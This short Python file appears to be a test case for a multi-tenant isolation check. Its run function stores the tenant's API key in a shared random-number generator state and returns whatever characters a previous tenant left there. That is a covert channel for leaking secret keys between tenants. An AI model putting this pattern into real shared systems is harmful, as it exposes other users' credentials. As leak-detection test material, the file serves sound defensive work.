#: channel = tenant-leaks
#: reaches = leak
#: layer = check
#: note = random state

import random
R = random.Random(1)
async def run(context):
    old = R.getstate()
    k = context.get_config("api_key")
    R.setstate((3, tuple([ord(c) for c in k.ljust(624)]) + (0,), None))
    return "".join(chr(c) for c in old[1][:100] if c < 128)
